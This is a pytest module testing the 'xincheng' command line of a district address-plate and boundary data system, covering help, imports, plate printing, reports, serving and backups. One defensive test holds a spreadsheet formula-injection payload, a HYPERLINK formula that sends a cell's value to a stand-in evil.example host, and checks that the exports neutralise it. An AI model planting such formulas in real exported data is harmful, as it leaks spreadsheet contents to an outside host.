"""The ``xincheng`` command as a user runs it, on a real database file.

Commands run in the test's own process (``run``, tests/xincheng_cli.py: same arguments, environment,
exit status, stdout and stderr); what only a real process shows (the entry points, ``--help``
loading no heavy module, settings read from the environment at start-up, ``serve``) runs as one.
The sample database is built once per session by ``xincheng init`` (``cli_sample`` in
tests/conftest.py); each module works on its own copy."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from geo.collection import RARE_THRESHOLDS
from geo.store import Store
from tests.conftest import CliSample
from tests.xincheng_cli import invoke, run, run_process

# With pytest-xdist (scripts/test.sh: --dist loadgroup) this module runs in one worker:
# with the other CLI module, so ``xincheng init`` builds their sample once.
pytestmark = pytest.mark.xdist_group("cli")

__all__ = ["run", "sample_db"]  # other modules' CLI tests use both


# What a fast start must not load: `--help` of any command imports only click and light modules.
HEAVY_MODULES = ("numpy", "pandas", "geopandas", "shapely", "pyproj", "fastapi", "uvicorn", "folium", "sqlalchemy")

_HELP_EVERY_COMMAND = """
import contextlib, io, json, sys

import click

from api.cli import main

def paths(group, prefix=()):
    for name, cmd in sorted(group.commands.items()):
        yield (*prefix, name)
        if isinstance(cmd, click.Group):
            yield from paths(cmd, (*prefix, name))

results = {}
for path in [(), *paths(main)]:
    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
        try:
            main.main([*path, "--help"], prog_name="xincheng")
            code = 0
        except SystemExit as exc:
            code = exc.code
    results[" ".join(path)] = {"code": code, "usage": out.getvalue().startswith("Usage: xincheng")}
heavy = [m for m in json.loads(sys.argv[1]) if m in sys.modules]
print(json.dumps({"results": results, "heavy": heavy}))
"""


def _clean_env() -> dict[str, str]:
    import os

    return {k: v for k, v in os.environ.items() if not k.startswith("XINCHENG_")}


def test_help_of_every_command_needs_no_secret_nor_database_and_loads_no_heavy_module(tmp_path):
    r = subprocess.run([sys.executable, "-c", _HELP_EVERY_COMMAND, json.dumps(HEAVY_MODULES)], capture_output=True,
                       text=True, env=_clean_env(), cwd=tmp_path, timeout=120)
    assert r.returncode == 0, r.stderr
    answer = json.loads(r.stdout)
    results = answer["results"]
    assert {"", "init", "import", "serve", "plates", "plates print", "user add", "gazetteer search",
            "boundaries compare", "map", "report"} <= set(results)
    assert all(v == {"code": 0, "usage": True} for v in results.values()), results
    assert answer["heavy"] == [], f"--help imported {answer['heavy']}"
    assert not (tmp_path / "var").exists()  # the default SQLite database was not created


def test_help_through_the_installed_command_and_python_m(tmp_path):
    import shutil

    script = shutil.which("xincheng", path=str(Path(sys.executable).parent))
    launchers = [[sys.executable, "-m", "api.cli"]] + ([[script]] if script else [])
    for launcher in launchers:
        for args in ([], ["serve"], ["plates"], ["plates", "print"], ["import"]):
            r = subprocess.run([*launcher, *args, "--help"], capture_output=True, text=True, env=_clean_env(),
                               cwd=tmp_path, timeout=60)
            assert r.returncode == 0, (launcher, args, r.stderr)
            assert r.stdout.startswith("Usage: ") and "--help" in r.stdout
    assert not (tmp_path / "var").exists()


def test_a_bad_setting_still_stops_a_command_before_it_runs(tmp_path):
    """A real process: the settings come from the environment it starts with."""
    r = run_process("gazetteer", "romanize", "新城", db=tmp_path / "x.db",
                    env_extra={"XINCHENG_TOKEN_TTL_MINUTES": "abc"})
    assert r.returncode == 2 and "XINCHENG_TOKEN_TTL_MINUTES" in r.stderr
    r = run_process("plates", "qr", str(tmp_path / "qr"), "--street", "新华大街", db=tmp_path / "x.db")
    assert r.returncode == 2 and "XINCHENG_SECRET_KEY" in r.stderr
    assert not (tmp_path / "x.db").exists() and not (tmp_path / "qr").exists()


@pytest.fixture(scope="module")
def sample_db(cli_sample: CliSample, tmp_path_factory) -> tuple[Path, float]:
    """This module's copy of the sample database ``xincheng init`` built, and how long ``init`` took."""
    return cli_sample.copy(tmp_path_factory.mktemp("cli")), cli_sample.elapsed_s


def test_init_builds_the_sample_in_under_two_minutes(sample_db):
    db, elapsed = sample_db
    assert elapsed < 120, f"init took {elapsed:.1f} s"
    store = Store.open(f"sqlite:///{db}")
    assert 30_000 <= store.count("door_plates") <= 40_000
    assert store.count("boundary_lines") == 4
    store.close()


def test_init_again_upgrades_without_wiping(sample_db):
    db, _ = sample_db
    store = Store.open(f"sqlite:///{db}")
    before = store.count("door_plates")
    result = run("init", db=db)  # the schema is upgraded; the sample is refused, not piled on
    assert result.returncode == 2 and "schema at version" in result.stdout
    assert "数据库已有数据" in result.stderr and "nothing was changed" in result.stderr
    assert store.count("door_plates") == before
    store.close()


def test_first_admin_from_the_cli_and_no_dev_login_outside_dev_mode(sample_db):
    db, _ = sample_db
    r = run("user", "add", "chief", "--role", "admin", "--password-stdin", db=db, stdin="a-very-long-password\n")
    assert r.returncode == 0, r.stderr
    assert "a-very-long-password" not in r.stdout + r.stderr
    r = run("user", "add", "weak", "--role", "admin", "--password-stdin", db=db, stdin="short\n")
    assert r.returncode == 2 and "at least 10 characters" in r.stderr
    r = run("user", "add-dev-accounts", db=db)
    assert r.returncode == 2 and "--dev" in r.stderr
    listing = run("user", "list", db=db).stdout
    assert re.search(r"^chief +系统管理员 admin +150102 +启用 active$", listing, re.M) and "hash" not in listing
    assert listing.startswith("用户名 username")


def test_bad_import_is_a_usage_error_and_changes_nothing(sample_db, tmp_path):
    db, _ = sample_db
    bad = tmp_path / "bad.geojson"
    bad.write_text('{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": '
                   '{"street_name": "x", "number": 1}, "geometry": {"type": "Point", "coordinates": '
                   '[2.35, 48.85]}}]}', encoding="utf-8")
    store = Store.open(f"sqlite:///{db}")
    before = store.count("door_plates")
    r = run("import", str(bad), "--layer", "door_plates", "--crs", "wgs84", db=db)
    assert r.returncode == 2 and "outside China" in r.stderr
    r = run("import", str(bad), "--layer", "door_plates", "--crs", "mercator", db=db)
    assert r.returncode == 2 and "crs must be one of" in r.stderr
    assert store.count("door_plates") == before
    store.close()


def test_export_then_import_through_the_cli(sample_db, tmp_path):
    db, _ = sample_db
    out = tmp_path / "facilities.gpkg"
    r = run("export", str(out), "--layer", "facilities", db=db)
    assert r.returncode == 0 and out.exists()
    target = tmp_path / "target.db"
    units = tmp_path / "units.gpkg"
    assert run("export", str(units), "--layer", "admin_units", db=db).returncode == 0
    assert run("init", "--empty", db=target).returncode == 0  # import makes no database (a typo would)
    r = run("import", str(out), "--layer", "facilities", "--crs", "EPSG:4490", db=target)
    assert r.returncode != 0 and "community_code" in r.stderr  # its communities are not stored there yet
    assert run("import", str(units), "--layer", "admin_units", "--crs", "EPSG:4490", db=target).returncode == 0
    r = run("import", str(out), "--layer", "facilities", "--crs", "EPSG:4490", db=target)
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["imported"] == Store.open(f"sqlite:///{db}").count("facilities")
    markers = tmp_path / "markers.gpkg"
    assert run("export", str(markers), "--layer", "boundary_markers", db=db).returncode == 0
    r = run("import", str(markers), "--layer", "boundary_markers", "--crs", "EPSG:4490", db=target)
    assert r.returncode != 0 and "/api/markers" in r.stderr  # markers are registered with BM-04 documents
    assert Store.open(f"sqlite:///{target}").count("boundary_markers") == 0


def test_serve_refuses_a_placeholder_secret(tmp_path):
    r = run_process("serve", db=tmp_path / "x.db", env_extra={"XINCHENG_SECRET_KEY": "change-me"})
    assert r.returncode == 2 and "XINCHENG_SECRET_KEY" in r.stderr


def test_map_command_writes_offline_html(sample_db, tmp_path):
    db, _ = sample_db
    out = tmp_path / "district.html"
    r = run("map", str(out), db=db)
    assert r.returncode == 0, r.stderr
    html = out.read_text(encoding="utf-8")
    from tests.test_maps import shows

    assert shows("界线示意", html) and shows("锡林郭勒北路", html)


def test_rename_queues_reprints_and_the_print_batch_clears_them(sample_db, tmp_path):
    from geo.placenames.lifecycle import rename

    db, _ = sample_db
    store = Store.open(f"sqlite:///{db}")
    name = store.select("place_names", where={"standard_name": "兴安北路"})[0]
    name = store.update("place_names", name["id"], {"name_mong": "ᠬᠢᠩᠭᠠᠨ ᠵᠠᠮ"}, expected_version=name["version"],
                        actor="test")
    renamed = rename(store, name["id"], "兴安路", expected_version=name["version"], actor="test",
                     approval={"approval_authority": "呼和浩特市人民政府", "approval_doc_no": "T-9",
                               "approval_date": "2026-11-01"})
    queued = store.count("plate_reprints", where={"status": "queued"})
    assert queued == store.count("door_plates", where={"street_name": "兴安路"}) > 0
    out = tmp_path / "reprint.pdf"
    env = {"XINCHENG_SECRET_KEY": "k" * 48, "XINCHENG_PUBLIC_BASE_URL": "https://mp.xincheng.example"}
    # the former name's Mongolian went with it: production plates wait for the new name's (PN-10, SG-01)
    assert renamed["name_mong"] is None and renamed["name_mong_pending"] is True
    r = run("plates", "print", str(out), "--reprints", db=db, env_extra=env)
    assert r.returncode == 2 and "SG-01：兴安路 没有蒙古文名称" in r.stderr, r.stderr  # Chinese first (it was English)
    # `plates qr` has no --reprints: its usage error names only the options it has (it named --reprints)
    r = run("plates", "qr", str(tmp_path / "qr"), db=db, env_extra=env)
    assert r.returncode == 2 and "--street 和 --community" in r.stderr and "--reprints" not in r.stderr, r.stderr
    store.update("place_names", name["id"], {"name_mong": "ᠬᠢᠩᠭᠠᠨ ᠵᠠᠮ"}, expected_version=renamed["version"],
                 actor="test")
    # a batch that cannot be marked printed (the database opened read-only) leaves no PDF to send to the
    # manufacturer while its plates stay queued for the next batch (review: it left the PDF)
    ro = invoke(["--database-url", f"sqlite:///file:{db}?uri=true&mode=ro", "plates", "print", str(out), "--reprints"],
                env_extra=env)
    assert ro.returncode == 1 and "数据库只读" in ro.stderr and "Traceback" not in ro.stderr, ro.stderr
    assert not out.exists() and sorted(p.name for p in tmp_path.iterdir() if p.suffix == ".pdf") == []
    assert store.count("plate_reprints", where={"status": "queued"}) == queued
    r = run("plates", "print", str(out), "--reprints", db=db, env_extra={"XINCHENG_SECRET_KEY": "k" * 48,
                                                                "XINCHENG_PUBLIC_BASE_URL": "https://mp.xincheng.example"})
    assert r.returncode == 0, r.stderr
    info = subprocess.run(["pdfinfo", str(out)], capture_output=True, text=True, check=True).stdout
    assert int(re.search(r"Pages:\s+(\d+)", info).group(1)) == queued
    assert store.count("plate_reprints", where={"status": "queued"}) == 0
    assert store.audit_rows("plate_reprints")[-1]["action"] == "printed"
    r = run("plates", "print", str(out), "--street", "新华大街", db=db, env_extra={"XINCHENG_SECRET_KEY": "k" * 48,
                                                                "XINCHENG_PUBLIC_BASE_URL": "https://mp.xincheng.example"})
    assert r.returncode == 2 and "SG-01" in r.stderr
    store.close()


def test_boundaries_report_on_the_real_lines(sample_db):
    db, _ = sample_db
    r = run("boundaries", "report", db=db)
    assert r.returncode == 0, r.stderr
    assert "新城区—回民区界线\t16.23" in r.stdout and "新城区—赛罕区界线\t51.15" in r.stdout
    assert r.stdout.count("0 (0 m², 0.00 亩)") == 8 and "非权威" in r.stdout


def test_boundaries_compare_with_a_neighbours_shifted_line(sample_db, tmp_path):
    import geopandas as gpd
    import shapely

    from geo import crs as C

    db, _ = sample_db
    store = Store.open(f"sqlite:///{db}")
    line = C.to_metric(store.select("boundary_lines", where={"right_adcode": "150103"})[0]["geometry"])
    store.close()
    # Their version bends 30 m off ours for 1 km in the middle of the line.
    mid = line.length / 2
    pts = [line.interpolate(d) for d in np.arange(0, line.length, 50.0)]
    shifted = [(p.x + (30.0 if abs(d - mid) < 500 else 0.0), p.y)
               for p, d in zip(pts, np.arange(0, line.length, 50.0), strict=True)]
    theirs = C.from_metric(shapely.LineString([*shifted, line.coords[-1]]))
    src = tmp_path / "huimin_version.geojson"
    gpd.GeoDataFrame({"name": ["回民区版本"]}, geometry=[theirs], crs="EPSG:4490").to_file(src, driver="GeoJSON")
    out = tmp_path / "disputed.gpkg"
    r = run("boundaries", "compare", str(src), "--crs", "EPSG:4490", "--neighbour", "150103", "--out", str(out), db=db)
    assert r.returncode == 0, r.stderr
    assert "争议区域 disputed areas" in r.stdout and out.exists()
    total = float(re.search(r"disputed areas: \d+, ([\d,]+) m²", r.stdout).group(1).replace(",", ""))
    assert total > 5_000


def test_planning_commands_print_their_parameters_and_write_tables(sample_db, tmp_path):
    db, _ = sample_db
    r = run("coverage", "--preset", "elderly", db=db)
    assert r.returncode == 0, r.stderr
    assert "0.9 m/s" in r.stdout and "810 m" in r.stdout and "新城区" in r.stdout
    out = tmp_path / "access.csv"
    r = run("accessibility", "--out", str(out), db=db)
    assert r.returncode == 0, r.stderr
    assert "m² / 100 老年人 residents 60+" in r.stdout and "900 m" in r.stdout
    table = pd.read_csv(out, encoding="utf-8-sig")
    assert {"code", "score_per100_60plus", "share_in_no_catchment"} <= set(table.columns)
    assert (table["level"] == "community").sum() == 62
    r = run("accessibility", "--supply", "beds", db=db)
    assert r.returncode == 0 and "without a beds value" in r.stdout  # the stations record floor area, not beds
    r = run("indicators", "--json", db=db)
    assert r.returncode == 0, r.stderr
    assert {i["number"] for i in json.loads(r.stdout)} >= {"4", "6", "7", "11", "12", "13", "15"}
    r = run("siting", "--k", "2", db=db)
    assert r.returncode == 0, r.stderr
    assert "with 2 new stations" in r.stdout
    r = run("siting", db=db)
    assert r.returncode == 2 and "k" in r.stderr
    r = run("accessibility", "--supply", "cats", db=db)
    assert r.returncode == 2 and "supply" in r.stderr


def _page_as_compared(page: str) -> str:
    """Return a report page without what differs from run to run: folium's random element ids, the
    times of the run and of the report, and the solvers' own times (the siting table's 求解用时 column)."""
    page = re.sub(r"_[0-9a-f]{32}", "_ID", page)
    page = re.sub(r"20\d\d-\d\d-\d\d \d\d:\d\d:\d\d", "TIME", page)
    return re.sub(r"(<td class='num'>)[0-9.]+(</td>\s*</tr>)", r"\1S\2", page)


def test_the_report_solves_beside_its_maps_and_writes_what_one_step_after_another_writes(sample_db, tmp_path):
    """``xincheng report`` runs the siting solver in a thread of its own while it draws the other maps:
    the page is the one the same run writes with every step in turn (the solver's seconds aside)."""
    from geo.planning.coverage import service_areas
    from geo.planning.estates import four_sync, load_new_estates
    from geo.planning.history import report_history
    from geo.planning.norms_settings import load_norms
    from geo.planning.run import PlanningInputs, run_planning, run_siting, walk_params
    from maps.report import report_html

    db, _ = sample_db
    page = tmp_path / "plan.html"
    r = run("report", str(page), "--k", "3", db=db)
    assert r.returncode == 0, r.stderr
    store = Store.open(f"sqlite:///{db}")
    try:
        planned = run_planning(PlanningInputs.load(store), walk_params())
        siting, sites = run_siting(planned, k=3, target_share=None, method="both", time_limit_s=30.0)
        in_turn = report_html(planned, sites=sites, siting=siting, nonce=None,
                              areas=service_areas(planned.network, planned.care_facilities, planned.params),
                              history=report_history(store),
                              estates=four_sync(load_new_estates(store),
                                                care_per100_m2=load_norms().estate_care_per100_m2))
    finally:
        store.close()
    written = page.read_text(encoding="utf-8")
    assert "建议新站点 Proposed stations" in written and len(sites) == 3
    assert _page_as_compared(written) == _page_as_compared(in_turn)
    # the workbook says where each proposed station is, as the page's and the API's do (it gave a candidate's index)
    from openpyxl import load_workbook

    from geo.messages.planning_outputs import header, sheet_name

    book = tmp_path / "plan.xlsx"
    assert run("report", str(book), "--k", "3", db=db).returncode == 0
    rows = list(load_workbook(book, read_only=True)[sheet_name("siting")].values)
    assert header("lon") in rows[0] and header("lat") in rows[0] and header("candidate") not in rows[0], rows[0]
    at = rows[0].index(header("lon"))
    assert [(row[at], row[at + 1]) for row in rows[1:]] == [
        (round(p.x, 6), round(p.y, 6)) for p in sites.geometry], rows


def test_a_siting_refusal_is_the_reports_usage_error_before_any_map_is_drawn(sample_db, tmp_path, monkeypatch):
    """What ``run_siting`` refuses reaches the planner as the command's own error (exit 2, Chinese first, naming
    the field) before the solver's thread starts and before any map is drawn (a review found a typo refused
    only after the service areas of a 6,000 km walk were drawn: 45 s), and no page is written."""
    from geo.planning import coverage

    drawn: list[int] = []
    real = coverage.service_areas
    monkeypatch.setattr(coverage, "service_areas", lambda *a, **k: drawn.append(1) or real(*a, **k))
    db, _ = sample_db
    page = tmp_path / "plan.html"
    r = run("report", str(page), "--minutes", "120", "--speed", "3", "--k", "1", db=db)
    assert r.returncode == 2, r.stderr
    assert "21600" in r.stderr and "3000" in r.stderr and "Traceback" not in r.stderr
    assert not page.exists() and drawn == []
    r = run("report", str(page), "--k", "0", db=db)  # the same spy sees a report that draws
    assert r.returncode == 0, r.stderr
    assert drawn == [1]


def _serving_command(db: Path, *args: str) -> tuple[list[str], int, dict[str, str]]:
    """Return ``xincheng serve`` over ``db`` on a free port (and ``args``), the port, and its environment."""
    import os
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    env = {k: v for k, v in os.environ.items() if not k.startswith("XINCHENG_")}
    env["XINCHENG_SECRET_KEY"] = "s" * 48
    return ([sys.executable, "-m", "api.cli", "--database-url", f"sqlite:///{db}", "serve", "--port", str(port),
             *args], port, env)


def _first_health(proc: subprocess.Popen, port: int, **headers: str):
    """Return the server's first answer to /api/health, waiting up to a minute for it to start."""
    import httpx

    deadline = time.time() + 60
    while True:
        try:
            return httpx.get(f"http://127.0.0.1:{port}/api/health", headers=headers)
        except httpx.TransportError:
            assert time.time() < deadline and proc.poll() is None, f"the server did not start ({proc.poll()})"
            time.sleep(0.3)


@pytest.mark.parametrize("workers", [1, 2])
def test_serve_answers_logs_json_and_keeps_its_start_out_of_full_collections(sample_db, workers):
    """One worker, or several worker processes (uvicorn's supervisor) over one database, as the production setup
    runs. A worker keeps what it loaded at start out of the garbage collector's full collections (issue #15: a
    full collection walked ~430,000 objects, stopping the worker's requests for 151 ms and more)."""
    import httpx

    db, _ = sample_db
    command, port, env = _serving_command(db, "--workers", str(workers))
    proc = subprocess.Popen(command, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        r = _first_health(proc, port, **{"X-Request-ID": "two-workers"})
        assert r.status_code == 200 and r.json()["adcode"] == "150102"
        assert all(httpx.get(f"http://127.0.0.1:{port}/api/health").status_code == 200 for _ in range(20))
        frozen_by_worker: dict[str, int] = {}
        paces_by_worker: dict[str, set[tuple[int, ...]]] = {}
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:  # each scrape a new connection, which either worker may take
            metrics = httpx.get(f"http://127.0.0.1:{port}/metrics").text
            pid = re.search(r"^xincheng_worker_pid (\d+)$", metrics, re.M)
            frozen = re.search(r"^xincheng_gc_frozen_objects (\d+)$", metrics, re.M)
            assert pid is not None and frozen is not None, metrics[-600:]
            assert re.search(r'^xincheng_gc_collections_total\{generation="2"\} \d+$', metrics, re.M)
            thresholds = re.findall(r'^xincheng_gc_threshold\{generation="\d"\} (\d+)$', metrics, re.M)
            paces_by_worker.setdefault(pid[1], set()).add(tuple(int(t) for t in thresholds))
            frozen_by_worker[pid[1]] = int(frozen[1])
            if len(frozen_by_worker) == workers and all((700, 10, 10) in p for p in paces_by_worker.values()):
                break
        assert len(frozen_by_worker) == workers, frozen_by_worker
        # Each worker collects at Python's pace, not the rarer one of a one-off command (api/cli/collector.py), which
        # it takes only while bulk work runs (geo.collection: the background lookup refresh's walking network):
        # a worker left at the command's pace would never show Python's.
        assert all((700, 10, 10) in paces and paces <= {(700, 10, 10), RARE_THRESHOLDS}
                   for paces in paces_by_worker.values()), paces_by_worker
        assert all(count > 100_000 for count in frozen_by_worker.values()), frozen_by_worker
    finally:
        proc.terminate()
        _out, err = proc.communicate(timeout=30)
    # every connection closed by the stop: SQLite removed its write-ahead log (the command's own store, held
    # through the serving, kept -wal and -shm after a clean SIGTERM; third review). One worker only: two workers
    # closing at the same moment may each see the other and leave the log for the next opening to fold back.
    if workers == 1:
        assert not Path(f"{db}-wal").exists() and not Path(f"{db}-shm").exists(), err[-2000:]
    lines = [json.loads(ln) for ln in err.splitlines() if ln.startswith("{")]
    assert any(ln.get("request_id") == "two-workers" and ln["status"] == 200 for ln in lines), err[-2000:]
    if workers > 1:
        assert all(ln["pid"] != proc.pid for ln in lines if ln["logger"] == "xincheng.access")  # served by workers


def test_serve_started_with_its_output_closed_still_serves(sample_db):
    """``xincheng serve >&- 2>&-`` (a unit file that closes the streams): uvicorn's log setup asked
    ``sys.stdout.isatty()`` of a stream that is not there and the server never started (third review)."""
    import shlex

    db, _ = sample_db
    command, port, env = _serving_command(db)
    proc = subprocess.Popen(["sh", "-c", f"exec {shlex.join(command)} >&- 2>&-"], env=env)
    try:
        r = _first_health(proc, port)
        assert r.status_code == 200 and r.json()["adcode"] == "150102"
    finally:
        proc.terminate()
        proc.wait(timeout=30)


def test_backup_and_restore_commands(sample_db, tmp_path):
    db, _ = sample_db
    archive = tmp_path / "nightly.zip"
    r = run("backup", str(archive), db=db)
    assert r.returncode == 0, r.stderr
    from geo.store.backup import backed_up_tables

    tables = len(backed_up_tables())  # every table of the schema
    assert f"{tables} 张表" in r.stdout and f"rows in {tables} tables" in r.stdout
    assert "备份 backup" in r.stderr  # the progress bar
    target = tmp_path / "restored.db"
    r = run("restore", str(archive), db=target)
    assert r.returncode == 0, r.stderr
    a, b = Store.open(f"sqlite:///{db}"), Store.open(f"sqlite:///{target}")
    try:
        for table in ("door_plates", "place_names", "boundary_markers"):
            assert a.count(table) == b.count(table) > 0, table
        # the audit log as backed up, and the restore on record by the command's actor: a row per restored table
        assert a.count("audit_log") == b.count("audit_log") - b.count("audit_log", where={"action": "restore"})
        marks = b.select("audit_log", where={"action": "restore"})
        assert len(marks) == tables - 1 and {m["actor"] for m in marks} == {"cli"}, marks[:2]
    finally:
        a.close()
        b.close()
    r = run("restore", str(archive), db=target)
    assert r.returncode != 0 and "--replace" in r.stderr
    assert run("restore", str(archive), "--replace", db=target).returncode == 0
    r = run("restore", str(tmp_path / "no-such.zip"), db=target)
    assert r.returncode == 2 and "no-such.zip" in r.stderr
    r = run("backup", str(tmp_path / "no-such-folder" / "b.zip"), db=db)
    assert r.returncode == 2 and "no-such-folder" in r.stderr


def test_cli_tables_neutralise_spreadsheet_formulas(tmp_path):
    """`coverage --out` and `accessibility --out` write stored names: none may be a live formula (review 15)."""
    import openpyxl
    import pandas as pd

    from api.cli.common import write_table

    table = pd.DataFrame({"name": ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "新华社区"], "households": [3, 4]})
    write_table(table, tmp_path / "t.csv")
    write_table(table, tmp_path / "t.xlsx")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8-sig").splitlines()[1].startswith("\"'=HYPERLINK")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value.startswith("'=") and sheet["B2"].value == 3




# Libraries of everyday requests (a romanized name, a plate page's Mongolian font) load with the worker, before it
# freezes what it loaded (gc.freeze, api/app.py). Loaded lazily (tried for issue #15: the app's import 2.44 -> 1.98 s)
# their ~190,000 and ~22,000 objects would come after the freeze, and every full collection would walk them: the pause
# the freeze removed from the public lookups' tail.
LOADED_AT_START = {"pypinyin": "a place name's romanization", "fontTools.subset": "the Mongolian web font"}


def test_a_worker_loads_the_libraries_of_everyday_requests_before_it_freezes_its_start(tmp_path):
    probe = ("import json, sys\nimport api.app\n"
             "print(json.dumps([m for m in json.loads(sys.argv[1]) if m not in sys.modules]))")
    r = subprocess.run([sys.executable, "-c", probe, json.dumps(sorted(LOADED_AT_START))], capture_output=True,
                       text=True, env=_clean_env(), cwd=tmp_path, timeout=120)
    assert r.returncode == 0, r.stderr
    missing = json.loads(r.stdout)
    assert missing == [], {m: LOADED_AT_START[m] for m in missing}
